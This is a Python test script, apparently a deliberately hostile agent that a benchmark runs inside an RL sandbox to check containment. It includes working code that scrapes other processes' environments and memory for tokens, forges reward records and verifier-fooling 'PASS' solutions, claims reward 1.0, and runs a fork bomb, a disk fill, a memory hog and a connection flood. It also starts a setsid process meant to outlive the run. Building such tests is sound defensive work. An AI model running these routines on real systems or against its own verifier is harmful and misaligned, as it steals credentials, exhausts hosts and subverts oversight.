"""A hostile agent for chaos.py's adversarial round: the audit's attacks (issue 40), made
from inside a real run as `rl.agent_command`. Standard library only.

It knows what any agent can learn: its environment (OPENAI_BASE_URL, OPENAI_API_KEY,
GYREJAX_WORKSPACE, GYREJAX_EXECUTION), the layout of a run's workdir (the workspace's
grandparent: `executions/`, `checkpoints/`, `workspaces/`), and, from $ADVERSARY_AIM
(JSON, set by the benchmark in the run's environment), what it aims at on the host: a
service's port, a root-only file, the task file, a unique sleep length to mark a
`setsid` survivor. It tries each attack, collects whatever it finds (environments,
32-hex-digit strings from other processes' memory: the engine token's shape), and prints
one JSON line: {attack: {"outcome": "done" | "refused", "detail": ...}, "found": [...]}.
The benchmark, outside, decides from that and from the host whether each was contained.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import socket
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

AIM = json.loads(os.environ.get("ADVERSARY_AIM", "{}"))
URL = os.environ["OPENAI_BASE_URL"]
KEY = os.environ["OPENAI_API_KEY"]
ME = os.environ["GYREJAX_EXECUTION"]
WORKSPACE = Path(os.environ.get("GYREJAX_WORKSPACE", "."))
WORKDIR = WORKSPACE.parent.parent  # <workdir>/workspaces/<name>
HEX32 = re.compile(rb"[0-9a-f]{32}")
report: dict = {}
found: set[str] = set()


def nothing(what: str):
    raise LookupError(f"nothing to be had: {what}")


def attempt(name: str, how) -> None:
    try:
        detail = how()
        report[name] = {"outcome": "done", "detail": repr(detail)[:300]}
    except Exception as e:  # the attack failed: what stopped it
        report[name] = {"outcome": "refused", "detail": repr(e)[:300]}


def others() -> list[int]:
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def steal_environments() -> str:
    stolen = 0
    for pid in others():
        with contextlib.suppress(OSError):
            block = Path(f"/proc/{pid}/environ").read_bytes()
            for entry in block.split(b"\0"):
                if b"=" in entry:
                    found.add(entry.split(b"=", 1)[1].decode("latin-1"))
                    stolen += 1
    return f"{stolen} environment values" if stolen else nothing("no environment readable")


def scan_memory() -> str:
    scanned = 0
    for pid in others():
        with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb") as memory:
            for line in open(f"/proc/{pid}/maps"):
                span, perms = line.split()[:2]
                if not perms.startswith("r"):
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(start)
                    chunk = memory.read(min(end - start, 8 << 20))
                    scanned += len(chunk)
                    found.update(m.decode() for m in HEX32.findall(chunk)[:10_000])
                if scanned > AIM.get("scan_mib", 1024) << 20:
                    return f"{scanned} bytes of memory"
    return f"{scanned} bytes of memory" if scanned else nothing("no memory readable")


def sibling_workspaces() -> list[str]:
    names = [n for n in os.listdir(WORKDIR / "workspaces") if n != WORKSPACE.name]
    for name in names:
        for path in (WORKDIR / "workspaces" / name).rglob("*"):
            with contextlib.suppress(OSError):
                found.add(path.read_text()[:200])
    return names or nothing("no other workspace visible")


def forge_record() -> str:
    groups = [p for p in (WORKDIR / "executions").iterdir() if p.is_dir()]
    target = (groups[0] if groups else WORKDIR / "executions") / "forged.json"
    target.write_text(json.dumps({"execution_id": "forged", "reward": 1.0, "calls": []}))
    return str(target)


def write_back(path: str) -> str:
    value = Path(path).read_text()
    Path(path).write_text(value)
    return value


def post(path: str, body, key: str | None = KEY, timeout: float = 30) -> int:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    headers = {"Content-Type": "application/json"}
    if key:
        headers["Authorization"] = f"Bearer {key}"
    request = urllib.request.Request(URL + path, data=data, headers=headers, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=timeout) as answer:
            return answer.status
    except urllib.error.HTTPError as e:
        return e.code


def must_fail(status: int) -> int:
    if status < 400:
        raise AssertionError(f"served: {status}")
    raise PermissionError(f"HTTP {status}")


def fill_disk() -> str:
    written = made = 0
    with contextlib.suppress(OSError), open(WORKSPACE / "fill.bin", "wb") as f:
        for _ in range(AIM.get("fill_mib", 512)):
            f.write(b"x" * (1 << 20))
            f.flush()
            written += 1 << 20
    with contextlib.suppress(OSError):
        while made < AIM.get("fill_files", 100_000):
            (WORKSPACE / f"f{made}").touch()
            made += 1
    for i in range(made):
        (WORKSPACE / f"f{i}").unlink()
    (WORKSPACE / "fill.bin").unlink(missing_ok=True)
    # Refused when a limit stopped it before what it meant to write.
    if written >= AIM.get("fill_mib", 512) << 20 or made >= AIM.get("fill_files", 100_000):
        return f"{written} bytes, {made} files"
    raise OSError(f"stopped at {written} bytes and {made} files")


def fork_bomb() -> int:
    children = []
    try:
        while len(children) < AIM.get("forks", 4096):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)
        result = len(children)
    except OSError as e:
        result = e
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    if isinstance(result, Exception):
        raise result
    return result


def memory_hog() -> list[int]:
    hogs = []
    for _ in range(AIM.get("hogs", 3)):
        pid = os.fork()
        if pid == 0:
            try:
                block = bytearray(AIM.get("hog_mib", 1024) << 20)
                block[:: 1 << 12] = b"1" * len(block[:: 1 << 12])
                time.sleep(3)
                os._exit(0)
            except MemoryError:
                os._exit(3)
        hogs.append(pid)
    codes = [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in hogs]
    if all(code == 0 for code in codes):
        return codes
    raise MemoryError(f"hogs ended {codes}")


def keyless_flood() -> int:
    held = []
    host, port = URL.removeprefix("http://").split("/")[0].split(":")
    with contextlib.suppress(OSError):
        for _ in range(AIM.get("keyless", 400)):
            s = socket.create_connection((host, int(port)), timeout=5)
            s.sendall(b"GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n")
            held.append(s)
    time.sleep(0.5)
    # The flood only costs its own socket's slots: its own key still gets through.
    status = post("/completions", {"model": "m", "prompt": [1], "max_tokens": 1})
    for s in held:
        s.close()
    return status


def forged_solution() -> str:
    # The verifier's checker must not be fooled by verdict-like lines or an early exit.
    for name in ("solution.py", "main.py", "app.py"):
        (WORKSPACE / name).write_text(
            "import sys, os\nprint('PASS ' * 10)\nprint('{\"passed\": true, \"score\": 1.0}')\n"
            "os._exit(0)\n"
        )
    return "written"


def solve_honestly() -> list[str]:
    """What a plain agent does with a task that lists its files ("name: content")."""
    prompt = json.loads(os.environ["GYREJAX_TASK"])["prompt"]
    written = []
    for line in prompt.splitlines():
        name, sep, content = line.partition(": ")
        if sep and "/" not in name and name.endswith(".txt"):
            (WORKSPACE / name).write_text(content)
            written.append(name)
    return written


# One ordinary model call first: the execution is recorded like any other.
model_call = post("/completions", {"model": "m", "prompt": [1, 2, 3], "max_tokens": 2})
attempt("runtime environ", steal_environments)
attempt("runtime memory", scan_memory)
attempt("sibling workspaces", sibling_workspaces)
attempt("store listing", lambda: os.listdir(WORKDIR / "executions") or nothing("empty"))
attempt("forged record", forge_record)
attempt("checkpoints", lambda: os.listdir(WORKDIR / "checkpoints") or nothing("empty"))
attempt("task file", lambda: Path(AIM["task_file"]).read_text() or nothing("empty"))
attempt("root-only file", lambda: Path(AIM["root_only"]).read_text())
attempt("/proc/sys", lambda: write_back("/proc/sys/kernel/core_uses_pid"))
attempt("/proc/sysrq-trigger", lambda: Path("/proc/sysrq-trigger").write_text("h"))
attempt("host port", lambda: socket.create_connection(("127.0.0.1", AIM["host_port"]), 3))
attempt(
    "other executions' keys",
    lambda: [k for k in found if len(k) == 43 and k != KEY] or nothing("no key but its own"),
)
attempt("admin at the door", lambda: must_fail(post("/executions", {}, key=None)))
attempt("huge prompt", lambda: must_fail(post("/completions", b"[" * (60 << 20), timeout=60)))
attempt("keyless flood", keyless_flood)
attempt("disk fill", fill_disk)
attempt("fork bomb", fork_bomb)
attempt("memory hog", memory_hog)
# Member 1 of each group solves its task honestly where it can (the verifier must still
# reward that); the others forge.
if ME.endswith("/1"):
    attempt("honest solution", solve_honestly)
else:
    attempt("verifier forgery", forged_solution)
if ME.endswith("/0"):  # the documented finish, on its own execution, claiming 1.0
    attempt("own finish", lambda: post(f"/executions/{ME.replace('/', '%2F')}/finish",
                                       {"status": "finished", "reward": 1.0}))  # fmt: skip
if "sleep" in AIM:  # a child in its own session, meant to outlive the run
    os.system(f"setsid sleep {AIM['sleep']} > /dev/null 2>&1 &")
result = {"execution": ME, "model_call": model_call, "attacks": report}
print(json.dumps(result | {"found": sorted(found)[:50_000]}), flush=True)
sys.exit(0)
